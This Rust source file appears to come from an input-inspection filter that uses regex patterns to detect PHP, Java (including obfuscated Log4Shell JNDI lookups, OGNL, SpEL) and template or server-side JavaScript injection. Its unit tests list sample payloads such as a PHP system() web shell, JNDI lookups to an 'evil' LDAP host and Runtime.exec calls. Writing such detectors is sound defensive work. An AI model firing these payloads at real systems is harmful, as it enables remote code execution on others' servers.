//! Code injection into the application's own language: PHP (tags, stream wrappers,
//! dangerous functions, serialized objects), Java (JNDI lookups as in Log4Shell, even
//! when nested lookups spell them out, OGNL and SpEL, class-loader tampering, serialized
//! objects), and template or server-side JavaScript expressions.

use std::borrow::Cow;
use std::sync::LazyLock;

use regex::Regex;

use super::PatternSet;

fn compile(patterns: &[(&str, &'static str)]) -> PatternSet {
    PatternSet::new(patterns)
}

fn first_match(patterns: &PatternSet, value: &str) -> Option<String> {
    patterns.first(value).map(str::to_string)
}

static PHP: LazyLock<PatternSet> = LazyLock::new(|| {
    compile(&[
        (
            r"<\?(?:php\b|=|\s+(?:\$|[a-z_]\w*\s*[($=]|echo\b|print\b|include\b|require\b))",
            "PHP open tag",
        ),
        (
            r"\b(?:php://(?:input|filter|stdin|memory|temp|fd)|(?:phar|zip|expect|glob|zlib|rar|ogg|compress\.zlib|compress\.bzip2|ssh2\.\w+)://|data://)",
            "PHP stream wrapper",
        ),
        (
            r"\b(?:shell_exec|passthru|proc_open|pcntl_exec|base64_decode|gzinflate|gzuncompress|str_rot13|call_user_func(?:_array)?|create_function|file_get_contents|file_put_contents|highlight_file|show_source|phpinfo|preg_replace|include_once|require_once|move_uploaded_file|fsockopen|curl_exec)\s*\(",
            "PHP function call",
        ),
        // Functions whose names are also English words count only with a PHP
        // argument: a variable, a string, or a nested call.
        (
            r#"\b(?:eval|assert|system|exec|popen|readfile|include|require|unserialize)\s*\(\s*(?:['"$@]|[a-z_]+\s*\()"#,
            "PHP function call",
        ),
        (
            r"\$_(?:get|post|cookie|request|server|files|env|session)\b|\$globals\b",
            "PHP superglobal",
        ),
        (r#"\b[oc]:\d+:"[\w\\]+":\d+:\{"#, "serialized PHP object"),
        (
            r#"\$\{?\s*['"]?[a-z_][\w]*['"]?\s*\}?\s*(?:\[[^\]]*\]\s*)*(?:/\*.*?\*/\s*)*\("#,
            "call through a PHP variable",
        ),
        (
            r#"\(\s*(?:\(\s*string\s*\)\s*)?['"]?[a-z_][\w.()'"\s]*['"]?\s*\)\s*\(\s*['"]"#,
            "call of a computed function name",
        ),
        (
            r#"\(\s*string\s*\)\s*['"][a-z_]\w*['"]\s*\("#,
            "call of a computed function name",
        ),
    ])
});

/// Why `value` injects PHP, if it does.
pub fn php_injection(value: &str) -> Option<String> {
    if !value.contains(['<', ':', '(', '$']) {
        return None;
    }
    first_match(&PHP, value)
}

/// A nested lookup that evaluates to literal text: `${lower:j}`, `${::-n}`,
/// `${env:NOPE:-d}`, `${date:'i'}`.
static TRIVIAL_LOOKUP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\$\{(?:(?:lower|upper)\s*:|[^${}:]*:[^${}:]*:-|::-|date\s*:\s*')([^${}']*)'?\}",
    )
    .expect("valid pattern")
});

static JAVA: LazyLock<PatternSet> = LazyLock::new(|| {
    compile(&[
        (r"\$\{\s*jndi\s*:", "JNDI lookup"),
        (
            r"\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http)\b",
            "JNDI lookup",
        ),
        (
            r"\$\{\s*(?:env|sys|java|main|ctx|k8s|docker|spring|bundle|log4j|web|sd|marker|base64)\s*:",
            "Log4j lookup",
        ),
        (
            r"%\{\s*\(?\s*#|#_memberaccess|@ognl\.|#context\s*\[",
            "OGNL expression",
        ),
        (
            r"java\.lang\.(?:runtime|processbuilder|system|reflect|class\b)|\.getruntime\s*\(|new\s+java\.|javax\.script\.",
            "Java runtime access",
        ),
        (
            r"\bclass\.(?:module\.)?classloader\b",
            "class loader tampering",
        ),
        (r"\bt\s*\(\s*java\.", "SpEL type reference"),
        (
            r"org\.apache\.commons\.collections|ysoserial|com\.sun\.rowset\.jdbcrowsetimpl|org\.springframework\.context\.support",
            "deserialization gadget",
        ),
        (r"\baced0005", "serialized Java object (hex)"),
        (
            r"\b(?:java\.(?:io|lang|net|nio|beans|rmi|util\.zip)|javax\.(?:script|naming|management|xml\.transform)|com\.sun\.(?:org\.apache|rowset|jndi)|sun\.misc|org\.apache\.(?:commons\.collections|xalan|bcel|tomcat\.util)|com\.opensymphony\.xwork2|org\.codehaus\.groovy)\.[a-z]",
            "Java runtime class name",
        ),
    ])
});

/// Why `value` injects Java expressions or lookups, if it does.
pub fn java_injection(value: &str) -> Option<String> {
    // Serialized objects are base64 of `AC ED 00 05`: case matters.
    if value.contains("rO0AB") {
        return Some("serialized Java object (base64)".to_string());
    }
    if !value.contains(['$', '%', '#', '.', '(']) && !value.to_ascii_lowercase().contains("jndi") {
        return None;
    }
    let mut current: Cow<'_, str> = Cow::Borrowed(value);
    for _ in 0..8 {
        if !current.contains("${") {
            break;
        }
        let next = TRIVIAL_LOOKUP.replace_all(&current, "$1");
        if next == current {
            break;
        }
        current = Cow::Owned(next.into_owned());
    }
    first_match(&JAVA, &current)
}

static TEMPLATE: LazyLock<PatternSet> = LazyLock::new(|| {
    compile(&[
        (
            r"\{\{[^}]*(?:__class__|__globals__|__builtins__|__import__|__subclasses__|__mro__|config\.|request\.application|self\._|lipsum|cycler|joiner|\d+\s*\*\s*\d+)[^}]*\}\}",
            "template expression",
        ),
        (
            r"\{%[^%]*\b(?:import|include|for|set|exec)\b[^%]*%\}",
            "template statement",
        ),
        (
            r"[$#]\{\s*\d+\s*[*+]\s*\d+\s*\}",
            "arithmetic probe in an expression",
        ),
        (r"<%=?[^%]*%>", "server page scriptlet"),
        (
            r#"require\s*\(\s*['"]child_process['"]|process\.mainmodule|\bconstructor\s*\.\s*constructor\b|\bglobal\s*\.\s*process\b"#,
            "server-side JavaScript",
        ),
        (
            r"__proto__|constructor\s*\[\s*['\x22]prototype",
            "prototype pollution",
        ),
        (
            r"\b(?:__import__|subprocess\.|os\.(?:system|popen)\s*\()",
            "Python code",
        ),
        (r"@\{\s*\[[^\]]*\]\s*\}", "Perl interpolated code"),
        (
            r"_\$\$nd_func\$\$_|\b__js_function\b",
            "serialized Node.js function",
        ),
        (
            r"\beval\s*\(\s*(?:string\s*\.\s*fromcharcode|atob|unescape)\s*\(",
            "eval of decoded text",
        ),
        (r"\bfunction\s*\(\s*\)\s*\{", "JavaScript function literal"),
    ])
});

/// Why `value` injects a template or script expression, if it does.
pub fn code_injection(value: &str) -> Option<String> {
    if !value.contains(['{', '<', '(', '_', '.', '@']) {
        return None;
    }
    first_match(&TEMPLATE, value)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn php_payloads() {
        for p in [
            "<?php system($_GET['c']); ?>",
            "php://filter/convert.base64-encode/resource=index.php",
            "data://text/plain;base64,PD9waHA=",
            "O:8:\"stdClass\":1:{s:1:\"a\";}",
            "phpinfo()",
            "${'a'}(11)",
            "$_aB_4c[5]['d'] /*lol*/ (17)",
            "(system)('uname');",
            "(string)\"system\"('uname');",
        ] {
            assert!(php_injection(p).is_some(), "missed {p}");
        }
        for v in [
            "price: $5",
            "the system works",
            "include me",
            "(a)",
            "i never really liked c's assert() feature",
            "<? should not trigger",
        ] {
            assert_eq!(php_injection(v), None, "flagged {v}");
        }
    }

    #[test]
    fn java_payloads_including_obfuscated_jndi() {
        for p in [
            "${jndi:ldap://evil/a}",
            "${${lower:j}${lower:n}di:ldap://evil/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil/a}",
            "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "rO0ABXNyABFqYXZh",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "<java><object class=\"java.beans.XMLDecoder\"/></java>",
        ] {
            assert!(java_injection(p).is_some(), "missed {p}");
        }
        for v in ["${name}", "100%", "#hashtag", "java.com", "a.b.c"] {
            assert_eq!(java_injection(v), None, "flagged {v}");
        }
    }

    #[test]
    fn template_and_script_payloads() {
        for p in [
            "{{7*7}}",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "${7*7}",
            "<%= 7*7 %>",
            "require('child_process').exec('id')",
            "__proto__[admin]=1",
            "@{[system 'whoami']}",
            "_$$ND_FUNC$$_function(){}",
            "eval(String.fromCharCode(97))",
        ] {
            assert!(code_injection(p).is_some(), "missed {p}");
        }
        for v in ["{{name}}", "snake_case", "a.b"] {
            assert_eq!(code_injection(v), None, "flagged {v}");
        }
    }
}
